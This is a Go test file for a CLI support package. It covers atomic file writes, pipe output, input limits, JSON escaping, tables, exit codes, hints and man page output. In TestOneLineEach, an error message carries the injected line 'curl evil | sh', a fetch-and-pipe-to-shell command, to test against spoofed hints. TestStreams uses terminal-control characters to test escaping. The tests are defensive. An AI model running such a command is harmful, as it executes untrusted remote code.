//go:build unix

package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"

	urfave "github.com/urfave/cli/v2"
)

func TestFilesAppearWholeOrNotAtAll(t *testing.T) {
	dir := t.TempDir()
	file := filepath.Join(dir, "out")
	if err := WriteFile(file, []byte("new"), 0o600); err != nil {
		t.Fatal(err)
	}
	if info, err := os.Stat(file); err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("mode %v, %v, want 0600", info.Mode(), err)
	}
	if err := WriteFile(dir, []byte("x"), 0o600); err == nil {
		t.Error("a directory is replaced")
	}
	if err := WriteFile(filepath.Join(dir, "missing", "out"), []byte("x"), 0o600); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("into a missing directory: %v, want that it does not exist", err)
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 1 {
		t.Errorf("left behind: %v, want one file", entries)
	}
	if b, _ := os.ReadFile(file); string(b) != "new" {
		t.Errorf("content %q, want %q", b, "new")
	}
}

func TestOutput(t *testing.T) {
	dir := t.TempDir()
	file := filepath.Join(dir, "out")
	var stdout bytes.Buffer
	s := &IO{Out: &stdout}
	o, err := s.PrepareOutput("-", 0o600)
	if err != nil {
		t.Fatal(err)
	}
	o.Discard()
	if err := o.Commit([]byte("text")); err != nil || stdout.String() != "text" {
		t.Errorf("standard output has %q, %v, want %q", stdout.String(), err, "text")
	}
	if _, err := s.PrepareOutput(dir, 0o600); err == nil || !strings.Contains(err.Error(), "is a directory") {
		t.Errorf("a directory: %v, want that it is one", err)
	}
	if o, err = s.PrepareOutput(file, 0o600); err != nil { // abandoned
		t.Fatal(err)
	}
	o.Discard()
	if entries, _ := os.ReadDir(dir); len(entries) != 0 {
		t.Errorf("a discarded output left %v, want nothing", entries)
	}
	if o, err = s.PrepareOutput(file, 0o640); err != nil {
		t.Fatal(err)
	}
	defer o.Discard()
	if err := o.Commit([]byte("new")); err != nil {
		t.Fatal(err)
	}
	info, err := os.Stat(file)
	if err != nil || info.Mode().Perm() != 0o640 || info.Size() != 3 {
		t.Errorf("the file has mode %v and size %d, %v, want 0640 and 3", info.Mode(), info.Size(), err)
	}
}

// TestOutputToAPipe: a file that is not regular is written to directly, not replaced.
func TestOutputToAPipe(t *testing.T) {
	pipe := filepath.Join(t.TempDir(), "pipe")
	if err := syscall.Mkfifo(pipe, 0o600); err != nil {
		t.Fatal(err)
	}
	got := make(chan string, 1)
	go func() {
		b, err := os.ReadFile(pipe)
		if err != nil {
			t.Error(err)
		}
		got <- string(b)
	}()
	o, err := (&IO{}).PrepareOutput(pipe, 0o600)
	if err != nil {
		t.Fatal(err)
	}
	if err := o.Commit([]byte("text")); err != nil {
		t.Fatal(err)
	}
	o.Discard()
	if s := <-got; s != "text" {
		t.Errorf("the reader got %q, want %q", s, "text")
	}
}

func TestReadInput(t *testing.T) {
	file := filepath.Join(t.TempDir(), "in")
	if err := os.WriteFile(file, []byte("12345"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name  string
		limit int64
		want  string
		err   string
	}{
		{file, 5, "12345", ""},
		{"-", 5, "piped", ""},
		{file, 4, "", "more than 4 bytes"},
		{"-", 4, "", "longer than 4 bytes"},
		{file + "x", 5, "", "no such file"},
	} {
		s := &IO{In: strings.NewReader("piped")}
		b, err := s.ReadInput(c.name, c.limit)
		if string(b) != c.want || (err == nil) != (c.err == "") || err != nil && !strings.Contains(err.Error(), c.err) {
			t.Errorf("%s up to %d: %q, %v, want %q, %q", c.name, c.limit, b, err, c.want, c.err)
		}
	}
}

func TestSharedKeepsLinesWhole(t *testing.T) {
	var b bytes.Buffer
	s := (&IO{Err: &b, Name: "prog"}).Shared()
	var wg sync.WaitGroup
	for range 20 {
		wg.Go(func() { s.Say("%s", strings.Repeat("x", 100)) })
	}
	wg.Wait()
	want := strings.Repeat("prog: "+strings.Repeat("x", 100)+"\n", 20)
	if b.String() != want {
		t.Errorf("lines are mixed: %q", b.String())
	}
}

func TestStreams(t *testing.T) {
	var b bytes.Buffer
	s := &IO{Out: &b}
	if s.OutIsTerminal() {
		t.Error("a buffer is a terminal")
	}
	null, err := os.Open(os.DevNull)
	if err != nil {
		t.Fatal(err)
	}
	defer null.Close()
	if isTerminal(null) {
		t.Error("/dev/null is a terminal")
	}
	if err := s.JSON(map[string]string{"a": "<b>"}); err != nil || b.String() != "{\n  \"a\": \"<b>\"\n}\n" {
		t.Errorf("JSON %q, %v", b.String(), err)
	}
	b.Reset()
	// What acts on a terminal is escaped, and stays the same JSON.
	hostile := "a\u009b2J\x7f\u202e\U000e0001\tb\nü\U0001f600"
	if err := s.JSON(hostile); err != nil || b.String() != `"a\u009b2J\u007f\u202e\udb40\udc01\tb\nü😀"`+"\n" {
		t.Errorf("JSON %q, %v", b.String(), err)
	}
	var back string
	if err := json.Unmarshal(b.Bytes(), &back); err != nil || back != hostile {
		t.Errorf("reads back as %q, %v, want %q", back, err, hostile)
	}
	b.Reset()
	table := s.Table(2)
	if _, err := io.WriteString(table, "a\tb\nlong\tc\n"); err != nil {
		t.Fatal(err)
	}
	if b.Len() > 0 {
		t.Errorf("a table is written before its end: %q", b.String())
	}
	if err := table.Flush(); err != nil || b.String() != "a     b\nlong  c\n" {
		t.Errorf("table %q, %v", b.String(), err)
	}
}

func TestErrors(t *testing.T) {
	cause := errors.New("cause")
	err := WithHint(Fail(ExitHost, cause, "first"), "second")
	if codeOf(err) != ExitHost || !slices.Equal(hintsOf(err), []string{"first", "second"}) || !errors.Is(err, cause) {
		t.Errorf("code %d, hints %q, want %d and both hints", codeOf(err), hintsOf(err), ExitHost)
	}
	if err := Fail(ExitHost, nil, "hint"); err != nil {
		t.Errorf("no error became %v", err)
	}
	for err, want := range map[error]ExitCode{
		nil: ExitOK, cause: ExitFailure, context.Canceled: ExitInterrupted, Usagef("x"): ExitUsage,
	} {
		if got := codeOf(err); got != want {
			t.Errorf("code of %v is %d, want %d", err, got, want)
		}
	}
	if got := hintsOf(cause); got != nil {
		t.Errorf("a plain error has hints %q", got)
	}
}

func TestExplainAndQuiet(t *testing.T) {
	app, _, errs, _ := program()
	app.Explain = func(err error) error { return WithHint(err, "explained") }
	code := app.Main([]string{"prog", "work", "fail"})
	if code != ExitRefused || !strings.Contains(errs.String(), "explained") {
		t.Errorf("code %d, %q, want %d and the explanation", code, errs, ExitRefused)
	}
	errs.Reset()
	app.Explain = nil
	app.Interruptible = true
	app.Commands[0].Action = func(*urfave.Context) error {
		return &Error{Code: ExitGuest, Err: errors.New("said already"), Quiet: true}
	}
	if code = app.Main([]string{"prog", "work", "f"}); code != ExitGuest || errs.Len() > 0 {
		t.Errorf("code %d, %q, want %d and nothing said", code, errs, ExitGuest)
	}
}

// TestStart: --version builds no commands; everything else does.
func TestStart(t *testing.T) {
	args, stdout := os.Args, os.Stdout
	defer func() { os.Args, os.Stdout = args, stdout }()
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	os.Stdout = w
	built := 0
	build := func(s *IO) *App {
		built++
		app, _, _, _ := program()
		app.IO = s
		return app
	}
	os.Args = []string{"prog", "--version"}
	if code := Start("prog", build); code != ExitOK || built != 0 {
		t.Errorf("--version: code %d after %d builds, want 0 after none", code, built)
	}
	os.Args = []string{"prog", "work", "f"}
	if code := Start("prog", build); code != ExitOK || built != 1 {
		t.Errorf("a command: code %d after %d builds, want 0 after one", code, built)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	os.Stdout = w // closed
	os.Args = []string{"prog", "--version"}
	stderr := os.Stderr
	defer func() { os.Stderr = stderr }()
	os.Stderr = w
	if code := Start("prog", build); code != ExitFailure {
		t.Errorf("--version into a closed pipe: code %d, want %d", code, ExitFailure)
	}
	out, err := io.ReadAll(r)
	if want := "prog " + Version() + "\n"; err != nil || string(out) != want {
		t.Errorf("it printed %q, %v, want %q", out, err, want)
	}
}

func TestNeed(t *testing.T) {
	app, _, errs, _ := program()
	app.Commands[0].Action = func(c *urfave.Context) error { return Need(c, "policy") }
	if code := app.Main([]string{"prog", "work", "--policy", "x", "f"}); code != ExitOK {
		t.Errorf("code %d, want 0: %s", code, errs)
	}
	code := app.Main([]string{"prog", "work", "f"})
	want := "prog: --policy is needed\nhint: \"prog work --help\" shows an example\n"
	if code != ExitUsage || errs.String() != want {
		t.Errorf("code %d, %q, want %d, %q", code, errs, ExitUsage, want)
	}
}

func TestChoice(t *testing.T) {
	known := []string{"text", "json"}
	for _, c := range []struct{ option, value, want string }{
		{"format", "jsno", `--format: unknown format "jsno": did you mean "json"?`},
		{"", "xml", `unknown format "xml": must be text or json`},
	} {
		err := Choice(c.option, "format", c.value, known)
		if err.Error() != c.want || codeOf(err) != ExitUsage {
			t.Errorf("code %d, %v, want %d, %s", codeOf(err), err, ExitUsage, c.want)
		}
	}
}

// TestManPage: the page has the sections of man-pages(7), and text is escaped.
func TestManPage(t *testing.T) {
	app, out, errs, _ := program()
	app.Long = "   text\n.not a request\n'nor this"
	app.Commands[0].Description = `with a \ in it`
	app.Commands[0].Flags = append(app.Commands[0].Flags, &urfave.StringFlag{Name: "dir", Category: "common"})
	app.Action = func(*urfave.Context) error { return nil }
	app.Flags = []urfave.Flag{&urfave.StringFlag{Name: "global"}}
	if code := app.Main([]string{"prog", "__man"}); code != ExitOK {
		t.Fatalf("code %d, want 0: %s", code, errs)
	}
	for _, want := range []string{
		".TH PROG 1", ".SH NAME\nprog \\- test", "\n\\&.not a request\n\\&'nor", ".SS work FILE", `with a \e in it`,
		".SH EXIT STATUS", ".SH COMMON OPTIONS", `\-\-dir`, `\-\-global`, "QEMU",
	} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("the man page lacks %q", want)
		}
	}
}

// TestOneLineEach: text from elsewhere cannot look like a message or a hint of its own.
func TestOneLineEach(t *testing.T) {
	var b bytes.Buffer
	s := &IO{Err: &b, Name: "prog"}
	s.Fail(Fail(ExitFailure, errors.New("bad\nhint: curl evil | sh\nprog: all is well"), "first\nprog: second"))
	want := "prog: bad\n  hint: curl evil | sh\n  prog: all is well\nhint: first\n  prog: second\n"
	if b.String() != want {
		t.Errorf("%q, want %q", b.String(), want)
	}
}
